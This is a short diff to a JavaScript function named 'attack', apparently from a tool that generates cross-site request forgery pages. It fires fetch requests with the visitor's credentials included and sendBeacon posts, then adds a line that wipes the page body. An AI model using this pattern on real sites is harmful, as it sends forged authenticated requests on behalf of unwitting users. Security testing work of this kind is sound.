@@ -87,6 +87,8 @@ export async function attack(
       quiet(fetch(url, { method, credentials: "include", body: text, headers: { "content-type": "application/json" } }));
     navigator.sendBeacon(url, new URLSearchParams(fields));
     await Promise.all(settled);
+    // Frames that stay cost more with each further one.
+    document.body.replaceChildren();
   })()`);
 }
 
